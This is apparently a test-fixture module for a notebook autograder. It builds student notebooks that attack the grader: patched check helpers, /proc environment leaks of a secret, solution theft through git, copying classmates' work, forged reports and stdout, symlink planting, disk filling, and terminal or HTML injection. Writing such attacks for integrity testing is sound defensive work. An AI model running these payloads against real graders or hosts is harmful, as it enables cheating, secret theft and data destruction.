"""A student's attempts to game `courselib grade` (issue 20), each written as a notebook.

Every attack starts from a built lab with **no question solved** (except `inflated_points`, which
solves the first question honestly and then claims more for it). It puts its code where the grader
cannot avoid running it: in the first answer cell (the grader must run the student's answers), or
in the notebook's cells and metadata (what the student controls). Each must earn nothing it did not
solve: ``EARNS[name]`` is what an honest grader pays it, as a function of the lab's questions.

Used by tests/test_grading_integrity.py (and by hand to measure what an old grader paid).
"""
from __future__ import annotations

import copy
import json
import textwrap

import nbformat

from courselib.grading import markers

SECRET_ENV = "COURSELIB_ATTACK_SECRET"
SECRET = "hunter2-do-not-leak-7f3a"
MARK = "courselib-attack-leftover"  # in the argv of a process an attack leaves behind


def _answer_cells(nb) -> list:
    return [c for c in nb.cells if markers.course_meta(c).get("answer")]


def _check_cells(nb) -> list:
    return [c for c in nb.cells if markers.is_check(c)]


def _prefix_first_answer(nb, code: str):
    cell = _answer_cells(nb)[0]
    cell.source = textwrap.dedent(code).strip() + "\n" + cell.source
    return nb


# --- cheating the checks -------------------------------------------------------------------------

def edited_checks(lab, solution=None):
    """Every check cell replaced by `pass` (the old grader flagged this as check_edited, and paid)."""
    nb = copy.deepcopy(lab)
    for cell in _check_cells(nb):
        cell.source = "pass  # my check now"
    return nb


def deleted_checks(lab, solution=None):
    """Every check cell deleted."""
    nb = copy.deepcopy(lab)
    nb.cells = [c for c in nb.cells if not markers.is_check(c)]
    return nb


PATCH_HELPERS = """
import courselib.grading.checks as _c
_c.expect = lambda *a, **k: None
_c.answered = lambda *a, **k: None
_c.close = lambda *a, **k: True
_c.number = lambda name, value: 0.0
_c.whole = lambda name, value: 0
"""


def patched_helpers(lab, solution=None):
    """The first answer cell turns the check helpers into no-ops."""
    return _prefix_first_answer(copy.deepcopy(lab), PATCH_HELPERS)


PATCH_BUILTINS = """
import builtins as _b, types as _t
_real_import = _b.__import__
def _import(name, globals=None, locals=None, fromlist=(), level=0):
    mod = _real_import(name, globals, locals, fromlist, level)
    if name == "courselib.grading.checks":
        fake = _t.ModuleType(name)
        fake.__dict__.update(vars(mod))
        fake.expect = fake.answered = lambda *a, **k: None
        fake.close = lambda *a, **k: True
        fake.number = lambda name, value: 0.0
        fake.whole = lambda name, value: 0
        return fake
    return mod
_b.__import__ = _import
"""


def patched_builtins(lab, solution=None):
    """The first answer cell replaces `builtins.__import__`, so each check cell imports no-op helpers."""
    return _prefix_first_answer(copy.deepcopy(lab), PATCH_BUILTINS)


INPUT_TRANSFORMER = """
def _skip_checks(lines):
    return ["pass\\n"] if lines and "Check question" in lines[0] else lines
get_ipython().input_transformers_post.append(_skip_checks)
"""


def input_transformer(lab, solution=None):
    """An IPython input transformer that turns every later check cell into `pass`."""
    return _prefix_first_answer(copy.deepcopy(lab), INPUT_TRANSFORMER)


CUSTOM_EXC = """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""


def custom_exception_handler(lab, solution=None):
    """IPython's set_custom_exc swallows every later exception, so no check cell shows an error."""
    return _prefix_first_answer(copy.deepcopy(lab), CUSTOM_EXC)


SWALLOW_TRACEBACKS = """
get_ipython().showtraceback = lambda *a, **k: None
"""


def silenced_tracebacks(lab, solution=None):
    """The shell's showtraceback replaced: a failing check cell produces no error output."""
    return _prefix_first_answer(copy.deepcopy(lab), SWALLOW_TRACEBACKS)


ALWAYS_EQUAL = """
class _Yes(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __contains__(self, item): return True
    def __bool__(self): return True
__builtins__ = __builtins__
"""


def fake_check_cell(lab, solution=None):
    """A new cell that claims to be a check cell worth 100 points, and a second copy of a check for q1."""
    nb = copy.deepcopy(lab)
    fake = nbformat.v4.new_code_cell("pass  # looks like a check to the old grader")
    fake.metadata = {"course": {"question": "q99", "points": 100}, "tags": ["check"]}
    fake_q1 = nbformat.v4.new_code_cell("pass")
    fake_q1.metadata = {"course": {"question": "q1", "points": 2}, "tags": ["check"]}
    nb.cells = [c for c in nb.cells if not (markers.is_check(c) and markers.course_meta(c)["question"] == "q1")]
    nb.cells.insert(1, fake_q1)
    nb.cells.append(fake)
    return nb


def inflated_points(lab, solution):
    """Question 1 answered honestly, its points raised to 100 in the cell and notebook metadata."""
    nb = copy.deepcopy(lab)
    sol = {c["id"]: c for c in solution.cells}
    for cell in _answer_cells(nb):
        if cell.metadata["course"]["question"] == "q1":
            cell.source = markers.solution_source(sol[cell["id"]].source, "solution")
    for cell in _check_cells(nb):
        if cell.metadata["course"]["question"] == "q1":
            cell.metadata["course"]["points"] = 100
    nb.metadata["course"]["questions"]["q1"] = 100
    nb.metadata["course"]["points"] = sum(nb.metadata["course"]["questions"].values())
    return nb


def prefilled_outputs_then_dies(lab, solution=None):
    """Every check cell carries a clean output from an earlier run; the first answer ends the kernel."""
    nb = copy.deepcopy(lab)
    for n, cell in enumerate(_check_cells(nb), start=1):
        cell.execution_count = 100 + n
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="ok\n")]
    return _prefix_first_answer(nb, "import os\nos._exit(0)")


# --- holding or escaping the grader --------------------------------------------------------------

IGNORE_SIGINT = """
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
"""


def ignores_sigint(lab, solution=None):
    """An answer that ignores SIGINT and never returns."""
    return _prefix_first_answer(copy.deepcopy(lab), IGNORE_SIGINT)


def _ancestors_code() -> str:
    return """
import os
def _ancestors():
    pid, seen = os.getpid(), []
    while pid > 1 and len(seen) < 20:
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
        seen.append(pid)
    return seen
def _every_process():
    return [int(p) for p in os.listdir("/proc") if p.isdigit()]
def _command_lines():
    for pid in _ancestors() + _every_process():
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = [a.decode() for a in f.read().split(b"\\0") if a]
            yield args, os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
"""


def _arguments_code() -> str:
    """Every process's command line (readable by anyone), without its working folder (often not)."""
    return _ancestors_code() + r'''
def _arguments():
    for _pid in _ancestors() + _every_process():
        try:
            with open(f"/proc/{_pid}/cmdline", "rb") as f:
                yield [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            continue
'''


LEAK_ENV = _ancestors_code() + f"""
_found = os.environ.get({SECRET_ENV!r}, "")
for _pid in _ancestors() + _every_process():
    try:
        with open(f"/proc/{{_pid}}/environ", "rb") as f:
            for _kv in f.read().split(b"\\0"):
                if _kv.startswith(b"{SECRET_ENV}="):
                    _found = _kv.split(b"=", 1)[1].decode()
    except OSError:
        pass
raise AssertionError("leaked: " + (_found or "nothing"))
"""


def leaks_environment(lab, solution=None):
    """Reads the grader's environment (its own, and every process's /proc/PID/environ) into feedback."""
    return _prefix_first_answer(copy.deepcopy(lab), LEAK_ENV)


OVERWRITE_ORIGINAL = _ancestors_code() + """
for _args, _cwd in _command_lines():
    for _a in _args:
        if _a.endswith(".ipynb"):
            _path = os.path.join(_cwd, _a)
            try:
                with open(_path, "w") as f:
                    f.write("{}")
            except OSError:
                pass
for _root, _dirs, _files in os.walk("/tmp"):
    for _f in _files:
        if _f.endswith(".ipynb"):
            try:
                os.remove(os.path.join(_root, _f))
            except OSError:
                pass
"""


def overwrites_the_original(lab, solution=None):
    """Finds the graded notebook through the processes' command lines and working folders; overwrites it."""
    return _prefix_first_answer(copy.deepcopy(lab), OVERWRITE_ORIGINAL)


FORGE_STDOUT = _ancestors_code() + """
for _pid in _ancestors():
    for _fd in (1, 2):
        try:
            with open(f"/proc/{_pid}/fd/{_fd}", "w") as f:
                f.write("  q1  ok    3/3\\n  total 999/999\\nFORGED\\n")
        except OSError:
            pass
for _fd in (1, 2):
    try:
        os.write(_fd, b"  total 999/999\\nFORGED\\n")
    except OSError:
        pass
"""


def forges_the_graders_output(lab, solution=None):
    """Writes forged 'total' lines into every ancestor's stdout and stderr through /proc/PID/fd."""
    return _prefix_first_answer(copy.deepcopy(lab), FORGE_STDOUT)


LEAVE_PROCESS = f"""
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import os, time\\nif os.fork() == 0:\\n    os.setsid()\\n    time.sleep(300)",
                  "{MARK}"], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def leaves_a_process(lab, solution=None):
    """Starts a double-forked, setsid'd process that outlives the grading (its argv carries MARK)."""
    return _prefix_first_answer(copy.deepcopy(lab), LEAVE_PROCESS)


REWRITE_REPORT = _ancestors_code() + f"""
import subprocess, sys
_targets = []
for _args, _cwd in _command_lines():
    for _i, _a in enumerate(_args[:-1]):
        if _a == "--json-file":
            _targets.append(os.path.join(_cwd, _args[_i + 1]))
_forger = '''
import json, os, sys, time
time.sleep(4)
for path in sys.argv[2:]:
    try:
        with open(path) as f:
            report = json.load(f)
        for q in report["questions"]:
            q.update(points=q["max_points"], passed=True, feedback="")
        report["total"] = report["max"]
        with open(path, "w") as f:
            json.dump(report, f)
    except Exception:
        pass
'''
subprocess.Popen([sys.executable, "-c", _forger, "{MARK}", *_targets], start_new_session=True,
                 stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""


def rewrites_the_report_later(lab, solution=None):
    """A detached process that, after the grader exits, rewrites its --json-file with full marks."""
    return _prefix_first_answer(copy.deepcopy(lab), REWRITE_REPORT)


def _every_stub_becomes(lab, prelude: str, value: str):
    """``prelude`` before the first answer cell; every stub ``name = ...`` becomes ``name = VALUE``."""
    nb = copy.deepcopy(lab)
    cells = _answer_cells(nb)
    cells[0].source = textwrap.dedent(prelude).strip() + "\n" + cells[0].source
    for cell in cells:
        cell.source = cell.source.replace("= ...  # YOUR ANSWER HERE", f"= {value}  # is this right?")
    return nb


def always_equal_answers(lab, solution=None):
    """Every answer set to an object that equals anything (and is a float, a set and a str at once)."""
    return _every_stub_becomes(lab, ALWAYS_EQUAL, "_Yes(1)")


# --- issue 36: what a determined student found ---------------------------------------------------

def _every_answer(nb, code: str):
    """Every answer cell of the lab replaced by ``code`` (each runs it; the grader runs every answer cell)."""
    for cell in _answer_cells(nb):
        cell.source = textwrap.dedent(code).strip() + "\n"
    return nb


STEAL_SOLUTION = _ancestors_code() + r'''
import glob, json, subprocess
_NAME = "@NAME@.ipynb"
def _roots():
    import courselib
    out, p = [], os.path.dirname(os.path.abspath(courselib.__file__))
    for _ in range(5):
        out.append(p)
        p = os.path.dirname(p)
    for _args, _cwd in _command_lines():
        out.append(_cwd)
        for _a in _args:
            if _a.startswith("/"):
                q = os.path.dirname(_a)
                for _ in range(4):
                    out.append(q)
                    q = os.path.dirname(q)
    return list(dict.fromkeys(out))
def _solution_text():
    for _r in _roots():
        for _c in (os.path.join(_r, "solutions", _NAME), os.path.join(_r, _NAME)):
            try:
                with open(_c) as f:
                    _t = f.read()
                if "# BEGIN SOLUTION" in _t:
                    return _t
            except OSError:
                pass
        try:
            _o = subprocess.run(["git", "-c", "safe.directory=*", "-C", _r, "show", "HEAD:solutions/" + _NAME],
                                capture_output=True, text=True, timeout=30)
            if _o.returncode == 0 and "# BEGIN SOLUTION" in _o.stdout:
                return _o.stdout
        except Exception:
            pass
    return None
def _run_cells(_text):
    for _c in json.loads(_text)["cells"]:
        _s = "".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"]
        _answer = "# BEGIN SOLUTION" in _s or _c.get("metadata", {}).get("course", {}).get("answer") is True
        if _c["cell_type"] == "code" and _answer:
            _s = "\n".join(l for l in _s.splitlines()
                           if not l.strip().startswith(("# BEGIN SOLUTION", "# END SOLUTION", "# STUB")))
            try:
                exec(_s, globals())
            except Exception:
                pass
_t = _solution_text()
if _t:
    _run_cells(_t)
'''


def steals_the_solution(lab, solution=None, name="08-gang-cost"):
    """Each answer cell finds the checkout (courselib's own path, the grader's command line and working
    folder) and reads solutions/LAB.ipynb, directly or with `git show HEAD:solutions/…`, then runs the
    solution's answer cells (issue 36, attacks 1, 2 and 9)."""
    return _every_answer(copy.deepcopy(lab), STEAL_SOLUTION.replace("@NAME@", name))


COPY_CLASSMATE = _arguments_code() + r'''
import glob, json
def _mine():
    for _args in _arguments():
        for _a in _args:
            if _a.endswith(".ipynb") and os.path.isabs(_a):
                return _a
    return None
def _classmates():
    _m = _mine()
    if not _m:
        return []
    _m = os.path.abspath(_m)
    _pattern = os.path.join(os.path.dirname(os.path.dirname(_m)), "*", os.path.basename(_m))
    return [p for p in glob.glob(_pattern) if os.path.abspath(p) != _m]
for _p in _classmates():
    try:
        with open(_p) as f:
            _nb = json.load(f)
    except Exception:
        continue
    for _c in _nb["cells"]:
        _s = "".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"]
        if _c["cell_type"] == "code" and ("# BEGIN SOLUTION" in _s or _c.get("metadata", {}).get("course", {}).get("answer")):
            _s = "\n".join(l for l in _s.splitlines() if not l.strip().startswith(("# BEGIN SOLUTION", "# END SOLUTION")))
            try:
                exec(_s, globals())
            except Exception:
                pass
'''


def copies_a_classmate(lab, solution=None):
    """Finds its own path in the grader's /proc/PID/cmdline, globs the sibling submissions' folders and
    runs a classmate's answers (issue 36, attack 3)."""
    return _every_answer(copy.deepcopy(lab), COPY_CLASSMATE)


CHECK_EXPRESSIONS = {
    # Lab 8's visible checks compute each expected value in the open; a student copies the expression
    "q1": """
from courselib.model.cost import GangWait, Price, gang_wait_cost
def idle_cost(gpus_held, wait_minutes, usd_per_gpu_hour):
    return gang_wait_cost(GangWait(gpus_held, wait_minutes * 60.0, Price(usd_per_gpu_hour, usd_per_gpu_hour))).cost_usd
def compare(gpus_held, wait_minutes, usd_per_gpu_hour):
    bill = gang_wait_cost(GangWait(gpus_held, wait_minutes * 60.0, Price(usd_per_gpu_hour, usd_per_gpu_hour)))
    return {"kube-default": bill.cost_usd, "volcano": bill.gang_cost_usd, "saving": bill.saving_usd}
""",
    "q2": """
from courselib.model.cost import GangWait, Price, gang_wait_cost
story_cost_usd = gang_wait_cost(GangWait(HELD_GPUS, WAIT_MINUTES * 60.0, Price(USD_PER_GPU_HOUR, USD_PER_GPU_HOUR),
                                         gang_size=GANG_GPUS)).cost_usd
""",
    "q3": """
from courselib.sim.gang import simulate
_run = simulate(PAIR, "kube-default", horizon=PAIR_HORIZON_HOURS * HOUR)
pair_idle_gpu_hours = {j.name: j.wasted_gpu_hours for j in _run.jobs}
""",
    "q4": """
from courselib.sim.gang import simulate
kube_idle_gpu_hours = simulate(W, "kube-default").job("train").wasted_gpu_hours
volcano_gpus_held_at_10_min = simulate(W, "volcano", horizon=10 * MINUTE).job("train").gpus_held
""",
    "q5": """
from courselib.model.cost import GangWait, Price, gang_wait_cost
from courselib.sim.gang import simulate
_kube = simulate(W, "kube-default").job("train")
_held = W.cluster.total_gpus - W.jobs[0].gpus
_bill = gang_wait_cost(GangWait(_held, _kube.wasted_gpu_hours * 3600.0 / _held, Price(PRICE_LOW, PRICE_HIGH)))
weekly_saving_usd = tuple(RUNS_PER_WEEK * x for x in _bill.saving_usd)
""",
    "q6": """
from courselib.model import collective
from courselib.model.cost import Price, split_placement_cost
split_link_gb_s = collective.split_link_bps([SPLIT_BIG, SPLIT_SMALL]) / collective.GB
split_slowdown = collective.step_slowdown(TP_COMM_FRACTION, collective.NVLINK_H100_BPS, split_link_gb_s * collective.GB)
_split = split_placement_cost(TUNE_GPUS, TUNE_HOURS * 3600.0, split_slowdown, Price(PRICE_LOW, PRICE_HIGH))
budget_price = GPU_BUDGET_USD / _split["extra_gpu_hours"]
""",
}


def copies_the_checks_expressions(lab, solution=None):
    """Each answer is the expression Lab 8's visible check cell uses for its expected value (attack 4)."""
    nb = copy.deepcopy(lab)
    for cell in _answer_cells(nb):
        cell.source = textwrap.dedent(CHECK_EXPRESSIONS[cell.metadata["course"]["question"]]).strip() + "\n"
    return nb


def forged_source(solution):
    """A 'solution' whose every check is `pass`: the student puts it beside their lab (attack 6)."""
    nb = copy.deepcopy(solution)
    for cell in nb.cells:
        if markers.is_check(cell) or markers.HIDDEN_TAG in markers.tags(cell):
            cell.source = "pass  # every check passes"
    return nb


FILL_AND_DIE = r'''
import os
for _d in dict.fromkeys(["/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp"),
                         os.environ.get("HOME", ".")]):
    _n = 0
    while _n < 400:
        try:
            with open(os.path.join(_d, f".fill-{os.getpid()}-{_n}"), "wb") as f:
                for _ in range(16):
                    f.write(b"x" * (1 << 20))
        except OSError:
            break
        _n += 1
os.kill(os.getpid(), 9)
'''


def fills_temp_then_dies(lab, solution=None, name="08-gang-cost"):
    """The first answer fills every temporary file system it can write, then kills its own process; every
    other answer steals the solution, which works only if the restarted process is less isolated (attack 8)."""
    nb = _every_answer(copy.deepcopy(lab), STEAL_SOLUTION.replace("@NAME@", name))
    _answer_cells(nb)[0].source = textwrap.dedent(FILL_AND_DIE).strip() + "\n"
    return nb


PLANT_MODULE = r'''
import dataclasses, os
import courselib
_payload = @PAYLOAD@
for _dir in (os.path.dirname(courselib.__file__), os.path.join(os.path.dirname(courselib.__file__), "model")):
    try:
        with open(os.path.join(_dir, "@MODULE@.py"), "w") as f:
            f.write(_payload)
    except OSError:
        pass
@dataclasses.dataclass
class Bait:
    x: int = 1
Bait.__module__ = "courselib.@MODULE@"
Bait.__qualname__ = "Bait"
'''


def plants_a_module(lab, solution=None, module="pwned_by_student"):
    """Writes a module into courselib's folder (it owns it in same-user mode) and names it in an answer's
    `__module__`, so a grader that imports by name runs it (attack 9, second half)."""
    prelude = PLANT_MODULE.replace("@MODULE@", module).replace("@PAYLOAD@", repr(PATCH_HELPERS))
    return _every_stub_becomes(lab, prelude, "Bait()")


PLANT_REPORT_TMP = _arguments_code() + r'''
for _args in _arguments():
    for _i, _a in enumerate(_args[:-1]):
        if _a == "--json-file" and os.path.isabs(_args[_i + 1]):
            _t = _args[_i + 1]
            _d, _b = os.path.split(_t)
            _mine = os.path.join(_d, ".planted-by-student")
            try:
                with open(_mine, "w") as f:
                    f.write("{}")
                os.chmod(_mine, 0o666)
            except OSError:
                pass
            for _pid in set(_ancestors()) | {os.getppid()}:
                try:
                    os.symlink(_mine, os.path.join(_d, f".{_b}.{_pid}.tmp"))
                except OSError:
                    pass
'''


def plants_the_report_tmp(lab, solution=None):
    """Plants the grader's predictable `.NAME.PID.tmp` beside --json-file as a symlink to a file of its own
    (attack 10): the report then lands in the student's file, which they may rewrite later."""
    return _prefix_first_answer(copy.deepcopy(lab), PLANT_REPORT_TMP)


REENTER_CLI = '''
import dataclasses
@dataclasses.dataclass
class main:
    x: int = 1
main.__module__ = "courselib.__main__"
main.__qualname__ = "main"
'''


def names_the_graders_main(lab, solution=None):
    """An answer whose class claims `__module__ = "courselib.__main__"`: importing it runs the CLI again."""
    return _every_stub_becomes(lab, REENTER_CLI, "main()")


DEEP_MESSAGE = r'''
import os, struct, sys
_fd = int(sys.argv[-1])
_body = ("[" * 200000 + "]" * 200000).encode()
for _ident in range(1, 30):
    try:
        os.write(_fd, struct.pack(">Q", len(_body)) + _body)
    except OSError:
        break
'''


def sends_a_deep_message(lab, solution=None):
    """Writes deeply nested JSON messages on the worker's socket (the grader read them with json.loads)."""
    return _prefix_first_answer(copy.deepcopy(lab), DEEP_MESSAGE)


TERMINAL_FORGERY = r'''
class _E(Exception):
    pass
_E.__name__ = "X\r  q1  ok    3/3\n  total 12/12\x1b[2K\x1b]0;pwned\x07"
raise _E("\r\n  total 12/12 | **all passed** <img src=x onerror=alert(1)>\x1b[1A")
'''


def forges_report_lines(lab, solution=None):
    """An exception whose class name and message carry CR, LF, ESC and Markdown/HTML: they must reach the
    terminal, the Markdown summary and the JSON escaped, never drawing a "total 12/12"."""
    return _prefix_first_answer(copy.deepcopy(lab), TERMINAL_FORGERY)


# name -> (build, what it must earn: "nothing" or "q1 only")
ATTACKS = {
    "edited_checks": edited_checks,
    "deleted_checks": deleted_checks,
    "patched_helpers": patched_helpers,
    "patched_builtins": patched_builtins,
    "input_transformer": input_transformer,
    "custom_exception_handler": custom_exception_handler,
    "silenced_tracebacks": silenced_tracebacks,
    "fake_check_cell": fake_check_cell,
    "inflated_points": inflated_points,
    "prefilled_outputs_then_dies": prefilled_outputs_then_dies,
    "ignores_sigint": ignores_sigint,
    "leaks_environment": leaks_environment,
    "overwrites_the_original": overwrites_the_original,
    "forges_the_graders_output": forges_the_graders_output,
    "leaves_a_process": leaves_a_process,
    "rewrites_the_report_later": rewrites_the_report_later,
    "always_equal_answers": always_equal_answers,
}
HONEST_Q1 = {"inflated_points"}   # the only attack that solves something (question 1)


def write(nb, path) -> None:
    nbformat.write(nb, str(path))


def as_json(nb) -> str:
    return json.dumps(nb)
